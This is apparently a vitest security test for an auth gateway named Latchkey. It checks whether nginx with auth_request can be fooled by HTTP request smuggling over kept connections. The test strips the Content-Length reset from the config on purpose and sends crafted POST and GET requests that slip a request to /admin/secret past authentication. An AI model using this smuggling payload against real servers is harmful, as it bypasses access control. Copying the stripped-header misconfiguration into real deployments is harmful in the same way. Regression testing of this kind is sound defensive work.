import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openConnection } from '../support/raw-connection.ts';
import { expectSafeGateway } from './expectations.ts';
import { startGateway } from './gateway.ts';
import { nginxIn } from './programs.ts';
import { startWorld, type World } from './world.ts';

expectSafeGateway('nginx with auth_request', nginxIn);

/** The best known mistake with auth_request: a question without a body keeps the body's length. */
function keepContentLength(folder: string): void {
  const file = path.join(folder, 'latchkey-question.conf');
  const text = readFileSync(file, 'utf8');
  writeFileSync(file, text.replace('proxy_set_header Content-Length "";', ''));
}

describe('nginx that leaves Content-Length on the question, over kept connections', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld();
  }, 60_000);
  afterAll(() => world.stop());

  /**
   * The whole attack: a good token announces the bytes of the next question up to a header of it,
   * so that the rest of that header is taken for a question of its own.
   */
  async function attack(latchkeyPort: number, change?: (folder: string) => void) {
    const gateway = await startGateway({
      command: nginxIn,
      applicationPort: world.applicationPort,
      latchkeyPort,
      ...(change === undefined ? {} : { change }),
    });
    const statuses: (number | undefined)[] = [];
    try {
      const smuggled = 'GET /healthz HTTP/1.0';
      const question = `GET /auth/verify?role=admin HTTP/1.1\r\nHost: latchkey\r\nX-Foo: `;
      const first = await openConnection(gateway.port);
      const body = 'x'.repeat(question.length);
      first.send(
        `POST /app HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${world.plain.token}\r\n` +
          `Content-Length: ${body.length}\r\n\r\n${body}`,
      );
      statuses.push((await first.answer())?.status);
      const second = await openConnection(gateway.port);
      second.send(`GET /admin/secret HTTP/1.1\r\nHost: x\r\nX-Foo: ${smuggled}\r\n\r\n`);
      statuses.push((await second.answer())?.status);
      for (const connection of [first, second]) connection.destroy();
    } finally {
      await gateway.stop();
    }
    return { statuses, arrived: world.arrivals().map(({ url }) => url) };
  }

  it('A7: is led past a server that keeps such connections: the attack is real', async () => {
    const { token } = world.plain;
    const keeping = createServer((request, response) => {
      const known = request.headers.authorization === `Bearer ${token}`;
      response.writeHead(request.url === '/healthz' ? 200 : known ? 204 : 401).end();
    });
    await new Promise<void>((resolve) => keeping.listen(0, '127.0.0.1', resolve));
    const port = (keeping.address() as AddressInfo).port;
    expect(await attack(port, keepContentLength)).toEqual({
      statuses: [200, 200],
      arrived: ['/app', '/admin/secret'],
    });
    // The controls: the example as it stands asks no such question.
    expect((await attack(port)).statuses).toEqual([200, 401]);
    keeping.closeAllConnections();
    keeping.close();
  });

  it('A7: is not led past Latchkey', async () => {
    for (let round = 0; round < 6; round += 1) {
      const { statuses, arrived } = await attack(world.latchkeyPort, keepContentLength);
      expect(statuses).toEqual([200, 401]);
      expect(arrived).toEqual(['/app']);
    }
  });
});
